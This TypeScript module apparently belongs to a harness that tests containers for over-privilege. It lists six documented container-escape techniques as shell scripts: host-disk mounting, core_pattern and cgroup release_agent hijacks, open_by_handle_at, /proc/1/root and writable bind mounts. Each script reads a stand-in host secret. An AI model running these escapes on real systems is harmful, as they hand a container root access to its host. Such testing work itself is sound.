/** One well-known way out of a container that was given too much, and where the public documentation has it. */
export interface Technique {
  readonly id: TechniqueId;
  readonly label: string;
  readonly source: string;
  /** Shell, run inside: it prints what it got of the machine's secret, or leaves it in /out/<id>. */
  readonly script: string;
}

export type TechniqueId =
  'raw-disk' | 'core-pattern' | 'release-agent' | 'file-handle' | 'host-process' | 'system-folder';

/** Where a machine keeps what nobody else may read; the aim of every technique. */
export const secretPath = '/root/secret';

/** A helper that the machine's kernel is made to run as its root: it copies the secret to where the container sees it. */
const helper = (id: string): string => `
printf '#!/bin/sh\\ncat ${secretPath} > %s/out/${id}\\n' "$MACHINE_ROOTFS" > /out/helper-${id}
chmod 755 /out/helper-${id}`;

export const techniques: readonly Technique[] = [
  {
    id: 'raw-disk',
    label: "Mounts the machine's disk",
    source: 'mknod(2), mount(2)',
    script: `
mknod /tmp/disk b $DISK_NUMBERS
mkdir -p /tmp/disk-root
mount -t ext4 /tmp/disk /tmp/disk-root
cat /tmp/disk-root${secretPath}
umount /tmp/disk-root`,
  },
  {
    id: 'core-pattern',
    label: "Names a program of its own as the machine's handler of crashes, and crashes",
    source: 'core(5), "Piping core dumps to a program"',
    script: `${helper('core-pattern')}
echo "|$MACHINE_ROOTFS/out/helper-core-pattern" > /proc/sys/kernel/core_pattern || exec rm /out/helper-core-pattern
sh -c 'kill -SEGV $$'`,
  },
  {
    id: 'release-agent',
    label: 'Names a program of its own as the one that runs when a control group empties',
    source: 'cgroups(7), "Cgroups v1 release notification"',
    script: `${helper('release-agent')}
mkdir -p /tmp/groups
mount -t cgroup -o rdma groups /tmp/groups || exec rm /out/helper-release-agent
mkdir -p /tmp/groups/emptying
echo 1 > /tmp/groups/emptying/notify_on_release
echo "$MACHINE_ROOTFS/out/helper-release-agent" > /tmp/groups/release_agent
sh -c 'echo 0 > /tmp/groups/emptying/cgroup.procs'
umount /tmp/groups`,
  },
  {
    id: 'file-handle',
    label: "Opens the root folder of the machine's file system by its number",
    source: 'open_by_handle_at(2), capabilities(7) on CAP_DAC_READ_SEARCH',
    script: `open-by-handle /bin ${secretPath.slice(1)} || echo "refused with error number $?"`,
  },
  {
    id: 'host-process',
    label: "Looks through the root folder of one of the machine's processes",
    source: 'proc(5), /proc/pid/root; ptrace(2), "Ptrace access mode checking"',
    script: `cat /proc/1/root${secretPath}`,
  },
  {
    id: 'system-folder',
    label: "Writes to and reads from a folder of the machine's root that was shared writable",
    source: 'Docker documentation, "Bind mounts": considerations and constraints',
    script: `echo written > /machine/written && cat /machine/${secretPath.slice('/root/'.length)}`,
  },
];
